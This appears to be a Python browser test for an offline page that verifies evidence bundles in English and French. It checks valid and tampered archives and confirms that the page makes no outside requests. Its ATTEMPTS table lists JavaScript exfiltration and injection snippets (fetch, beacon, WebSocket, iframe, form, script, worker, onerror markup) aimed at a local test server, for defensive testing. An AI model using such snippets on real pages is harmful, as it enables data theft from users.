#!/usr/bin/env python3
"""The page that checks evidence from a file (deploy/offline-page), opened from a disk in a real browser, in English and French: a good
bundle holds, everything that is none is refused, the report is the one of the page, and nothing leaves."""
import pathlib
import subprocess
import sys
import tempfile

HERE = pathlib.Path(__file__).resolve().parent
sys.path[:0] = [str(HERE.parent / "support"), str(HERE / "support")]
from browser import Browser
from cases import Cases
from looks import LANGUAGES, arguments, look, seen_in
from static_server import FrameServer

ROOT = HERE.parents[1]
BUNDLES = ROOT / "tests/vectors/custody"
FINGERPRINTS = (BUNDLES / "fingerprints.txt").read_text()

# What somebody would try who got a script into the page, or a bundle that carries one. `await` each, whatever it says.
ATTEMPTS = {
    "fetch": "await fetch(args + '/leak')", "beacon": "navigator.sendBeacon(args + '/leak', 'x')", "socket": "new WebSocket(args.replace('http', 'ws') + '/leak')",
    "picture": "document.body.append(Object.assign(new Image(), { src: args + '/leak' }))",
    "style": "document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: args + '/leak' }))",
    "frame": "document.body.append(Object.assign(document.createElement('iframe'), { src: args + '/leak' }))",
    "form": "const f = document.createElement('form'); f.action = args + '/leak'; document.body.append(f); f.submit()",
    "script": "document.head.append(Object.assign(document.createElement('script'), { src: args + '/leak' }))",
    "module": "await import(args + '/leak')", "worker": "new Worker(URL.createObjectURL(new Blob([`fetch('${args}/leak')`])))",
    "written script": "const s = document.createElement('script'); s.textContent = `fetch('${args}/leak')`; document.body.append(s)",
    "markup": "document.body.innerHTML = `<img src=x onerror=\"fetch('${args}/leak')\">`",
}


def tampered(folder):
    """(what, file): everything that is no good bundle."""
    good = (BUNDLES / "selective.tar").read_bytes()

    def made(name, data):
        (folder / name).write_bytes(data)
        return folder / name
    for at in (len(good) // 5, len(good) // 2, len(good) * 4 // 5):
        data = bytearray(good)
        data[at] ^= 1
        yield f"a bit of byte {at} turned", made(f"bit{at}.tar", data)
    yield "cut", made("cut.tar", good[:-512])
    yield "longer", made("longer.tar", good + bytes(512))
    yield "empty", made("empty.tar", b"")
    yield "no archive", made("text.tar", b"<script>document.title = 'taken'</script>\n" * 50)


class Asked:
    """Every address that the page asked for, but its own."""

    def __init__(self, page):
        self.page = page
        page.do("page.asked = []; page.on('request', (one) => page.asked.push(one.url())); page.on('websocket', (one) => page.asked.push(one.url()));")

    def others(self):
        return [one for one in self.page.do("return page.asked;") if not one.startswith(("file:", "data:", "blob:"))]


def check(page, file, sheet=None):
    page.load("")
    page.see_heading("Check evidence")
    page.give_files("bundle", [file])
    if sheet is not None:
        page.do("await page.locator('details summary').click();")
        page.fill("sheet", sheet)
    page.press("Check")


def tell(cases, browser, address, language, folder):
    page = browser.page(f"verifier {language}", address, language)
    asked = Asked(page)
    with cases.case(f"{language}: the page opens from a file in the reader's language, and looks as it should"):
        page.load("")
        page.see_heading("Check evidence")
        page.see("This page is one file.")
        assert page.do("return page.evaluate(() => document.documentElement.lang);") == language
        wrong = look(page, f"offline-begin-{language}")
        assert not wrong, wrong
    for name in ("full.tar", "history.tar", "selective.tar"):
        with cases.case(f"{language}: {name} holds, and what it proves is told"):
            check(page, BUNDLES / name, FINGERPRINTS)
            page.see_heading("What it proves", seconds=90)
            page.see("This evidence holds.")
            said = page.text()
            for fingerprint in FINGERPRINTS.split("=")[1:]:
                assert fingerprint.split("\n")[0] in said, said[:3000]
            wrong = look(page, f"offline-{name.split('.')[0]}-{language}")
            assert not wrong, wrong
    with cases.case(f"{language}: without fingerprints it says that nobody compared them"):
        check(page, BUNDLES / "selective.tar")
        page.see_heading("What it proves", seconds=90)
        page.see("Compare these fingerprints")
    with cases.case(f"{language}: a fingerprint of somebody else is refused"):
        check(page, BUNDLES / "selective.tar", FINGERPRINTS[:10] + "00000" + FINGERPRINTS[15:])
        page.see("This evidence does not hold.", seconds=90)
    for what, file in tampered(folder):
        with cases.case(f"{language}: refused: {what}"):
            check(page, file)
            page.see("This evidence does not hold.", seconds=90)
            assert not page.shows("This evidence holds.")
            if what == "cut":
                wrong = look(page, f"offline-refused-{language}")
                assert not wrong, wrong
    with cases.case(f"{language}: no choice, no check"):
        page.load("")
        page.press("Check")
        page.see("Choose the bundle first.")
    with cases.case(f"{language}: the keyboard is enough, and the other language is one press away"):
        page.load("")
        page.do("await page.locator('header button[lang]').focus(); await page.keyboard.press('Enter');"
                "await page.waitForFunction((was) => document.documentElement.lang !== was, args[0]);", language)
        page.do("await page.keyboard.press('Enter'); await page.waitForFunction((was) => document.documentElement.lang === was, args[0]);", language)
    with cases.case(f"{language}: all the while nothing was asked of anybody, and the console stayed silent"):
        assert asked.others() == [] and page.troubles() == [], (asked.others(), page.troubles())


def leaks(cases, browser, address, plain):
    server = FrameServer(plain)
    try:
        page = browser.page("attacker", address)
        outside = browser.page("outside", server.url)
        with cases.case("elsewhere these attempts are real"):
            outside.load("/around")
            server.asked.clear()
            outside.do("await page.evaluate(async (args) => { try { await fetch(args + '/leak'); } catch {} }, args[0]);", server.url)
            assert any("leak" in path for path in server.asked), server.asked
        for name, attempt in ATTEMPTS.items():
            with cases.case(f"{name}: nothing leaves the page"):
                page.load("")
                server.asked.clear()
                page.do("await page.evaluate(eval('(' + args[0] + ')'), args[1]).catch(() => null); await page.waitForTimeout(400);",
                        f"async (args) => {{ try {{ {attempt}; }} catch {{}} }}", server.url)
                assert not server.asked, server.asked
    finally:
        server.close()


def main():
    given = arguments(__doc__)
    cases = Cases("browser_offline")
    with tempfile.TemporaryDirectory(prefix="rogatory offline é ") as name:
        folder = pathlib.Path(name)
        page, again = folder / "vérifier.html", folder / "again.html"
        with cases.case("it is built, one file, the same bytes each time"):
            for file in (page, again):
                done = subprocess.run([ROOT / "deploy/offline-page", file], capture_output=True, text=True, stdin=subprocess.DEVNULL, timeout=300)
                assert done.returncode == 0, done.stderr
            assert page.read_bytes() == again.read_bytes() and sorted(one.name for one in folder.iterdir()) == ["again.html", "vérifier.html"]
        if not page.exists():
            return cases.finish()
        browser = Browser()
        try:
            for language in LANGUAGES:
                if not seen_in(language, 0, given.alternate):
                    continue
                tell(cases, browser, page.as_uri(), language, folder)
            leaks(cases, browser, page.as_uri(), folder)
        finally:
            browser.close()
    return cases.finish()


if __name__ == "__main__":
    sys.exit(main())
